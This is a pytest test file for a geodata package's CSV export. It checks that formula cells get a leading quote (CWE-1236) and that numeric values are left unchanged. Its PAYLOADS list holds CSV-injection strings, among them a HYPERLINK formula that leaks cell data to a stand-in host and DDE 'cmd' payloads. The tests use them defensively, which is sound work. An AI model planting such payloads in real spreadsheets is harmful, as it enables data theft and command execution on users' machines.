"""CSV outputs neutralise formula cells (CWE-1236) and never change numbers."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
import shapely

from desertgeo._csvsafe import (
    TRIGGERS,
    is_risky,
    neutralise,
    neutralise_cells,
    restore,
    restore_cells,
)
from desertgeo.events import read_events, write_events

SRC = Path(__file__).resolve().parents[1] / "src"

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Details")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "-",
    "+",
    "'=already quoted",
]
HARMLESS = ["Palmyra", "تدمر", "20 km east of Palmyra", "", " =1+1", "a=b", "'quoted", "2023-02-17"]
NUMBERS_AS_TEXT = ["-20", "+3.5", "-0.5", "1e-3", "-1E+3", "-.5", "+7"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_payloads_get_one_leading_quote(text: str) -> None:
    assert is_risky(text)
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", HARMLESS + NUMBERS_AS_TEXT)
def test_harmless_text_and_numbers_are_unchanged(text: str) -> None:
    assert not is_risky(text)
    assert neutralise(text) == text
    assert restore(text) == text


def test_triggers_are_the_owasp_set() -> None:
    assert set(TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


def test_frame_numbers_never_change_and_input_is_not_mutated() -> None:
    frame = pd.DataFrame(
        {
            "note": pd.array(["=1+1", "fine", None, "-20"], dtype="string"),
            "obj": pd.Series(["@x", -5, 3.5, None], dtype=object),
            "ints": [-20, -1, 0, 5],
            "floats": [-20.5, np.nan, -1e20, np.inf],
            "flags": [True, False, True, False],
            "when": pd.to_datetime(["2023-01-01", None, "2024-02-29", "2020-05-05"]),
            "cat": pd.Categorical(["=a", "b", "=a", "c"]),
        }
    )
    before = frame.copy()
    safe = neutralise_cells(frame)
    pd.testing.assert_frame_equal(frame, before)
    assert list(safe["note"].astype(object).where(safe["note"].notna(), None)) == [
        "'=1+1",
        "fine",
        None,
        "-20",
    ]
    assert safe["note"].dtype == frame["note"].dtype
    assert list(safe["obj"])[:3] == ["'@x", -5, 3.5]
    for col in ("ints", "floats", "flags", "when"):
        pd.testing.assert_series_equal(safe[col], frame[col])
    assert list(safe["cat"]) == ["'=a", "b", "'=a", "c"]
    restored = restore_cells(safe)
    assert list(restored["note"].astype(object).where(restored["note"].notna(), None)) == [
        "=1+1",
        "fine",
        None,
        "-20",
    ]


def test_column_names_are_neutralised_too() -> None:
    frame = pd.DataFrame({"=evil()": ["x"], "ok": ["y"]})
    assert list(neutralise_cells(frame).columns) == ["'=evil()", "ok"]


def _events(notes: list[str]) -> gpd.GeoDataFrame:
    n = len(notes)
    return gpd.GeoDataFrame(
        {
            "event_id": [f"e{i}" for i in range(n)],
            "notes": notes,
            "fatalities": np.arange(n),
            "offset_km": np.arange(n) - 20.5,  # negative numbers in a numeric column
            "date": pd.date_range("2023-02-17", periods=n, freq="D"),
        },
        geometry=shapely.points(np.linspace(-3.5, 40.0, n), np.linspace(34.0, 35.0, n)),
        crs=4326,
    )


def _raw_cells(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_write_events_round_trip(tmp_path: Path) -> None:
    notes = [*PAYLOADS, *HARMLESS, *NUMBERS_AS_TEXT]
    ev = _events(notes)
    out = write_events(ev, tmp_path / "ev.csv")
    raw = _raw_cells(out)
    assert [r["notes"] for r in raw] == [neutralise(t) for t in notes]
    # numbers and coordinates exactly as without the option
    plain = _raw_cells(write_events(ev, tmp_path / "plain.csv", csv_safe=False))
    for col in ("fatalities", "offset_km", "lon", "lat", "date", "event_id"):
        assert [r[col] for r in raw] == [r[col] for r in plain]
    assert raw[0]["offset_km"] == "-20.5"
    assert raw[0]["lon"] == "-3.5"
    # csv_safe=False writes the text exactly
    assert [r["notes"] for r in plain] == notes
    # both read back as the same events; restore() turns the safe text into the plain one
    back_safe = read_events(out)
    back_plain = read_events(tmp_path / "plain.csv")
    assert len(back_safe) == len(back_plain) == len(ev)
    assert list(back_safe["offset_km"]) == list(ev["offset_km"])
    assert list(back_safe["fatalities"]) == list(back_plain["fatalities"])

    def texts(frame: gpd.GeoDataFrame) -> list[str | None]:
        return [None if pd.isna(v) else str(v) for v in frame["notes"]]

    assert [None if t is None else restore(t) for t in texts(back_safe)] == texts(back_plain)
    assert texts(back_plain)[:5] == notes[:5]


def test_a_carriage_return_inside_a_cell_never_starts_a_row(tmp_path: Path) -> None:
    """'x\\r=HYPERLINK(...)' would otherwise put a formula at the start of a new row."""
    notes = ['calm\r=HYPERLINK("http://x.example","x")', "next"]
    for safe in (True, False):
        out = write_events(_events(notes), tmp_path / f"cr{safe}.csv", csv_safe=safe)
        raw = _raw_cells(out)
        assert [r["notes"] for r in raw] == notes
        assert len(read_events(out)) == 2


def test_geojson_is_not_neutralised(tmp_path: Path) -> None:
    ev = _events(["=1+1"])
    back = read_events(write_events(ev, tmp_path / "ev.geojson"))
    assert back["notes"].iloc[0] == "=1+1"


def _cli(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONPATH": str(SRC)}
    return subprocess.run(
        [sys.executable, "-m", "desertgeo", *args],
        capture_output=True,
        text=True,
        env=env,
        cwd=cwd,
        timeout=300,
    )


@pytest.mark.cli
def test_cli_geocode_csv_is_safe_unless_no_csv_safe(tmp_path: Path) -> None:
    names = tmp_path / "names.csv"
    names.write_text('place\n"=HYPERLINK(""http://x.example"",""x"")"\nPalmyra\n-20\n')
    safe = _cli("geocode", "-i", str(names), "-c", "place", "-o", "safe.csv", cwd=tmp_path)
    assert safe.returncode == 0, safe.stderr
    raw = _raw_cells(tmp_path / "safe.csv")
    assert raw[0]["place"] == "'" + '=HYPERLINK("http://x.example","x")'
    assert raw[0]["query"] == "'" + '=HYPERLINK("http://x.example","x")'
    assert [r["place"] for r in raw[1:]] == ["Palmyra", "-20"]
    assert float(raw[1]["lon"]) == pytest.approx(38.28, abs=0.05)
    plain = _cli(
        "geocode", "-i", str(names), "-c", "place", "-o", "plain.csv", "--no-csv-safe", cwd=tmp_path
    )
    assert plain.returncode == 0, plain.stderr
    assert _raw_cells(tmp_path / "plain.csv")[0]["place"] == '=HYPERLINK("http://x.example","x")'


@pytest.mark.cli
def test_cli_events_read_csv_output_is_safe(tmp_path: Path) -> None:
    src = tmp_path / "in.geojson"
    write_events(_events(["@SUM(A1:A9)", "calm"]), src)
    res = _cli("events", "read", str(src), "-o", "out.csv", "--json", cwd=tmp_path)
    assert res.returncode == 0, res.stderr
    assert json.loads(res.stdout)["n_events"] == 2
    assert [r["notes"] for r in _raw_cells(tmp_path / "out.csv")] == ["'@SUM(A1:A9)", "calm"]
    res = _cli("events", "read", str(src), "-o", "raw.csv", "--no-csv-safe", cwd=tmp_path)
    assert res.returncode == 0, res.stderr
    assert [r["notes"] for r in _raw_cells(tmp_path / "raw.csv")] == ["@SUM(A1:A9)", "calm"]


def test_raw_csv_text_is_what_a_spreadsheet_gets(tmp_path: Path) -> None:
    out = write_events(_events(["=1+1"]), tmp_path / "ev.csv")
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert rows[1][rows[0].index("notes")] == "'=1+1"
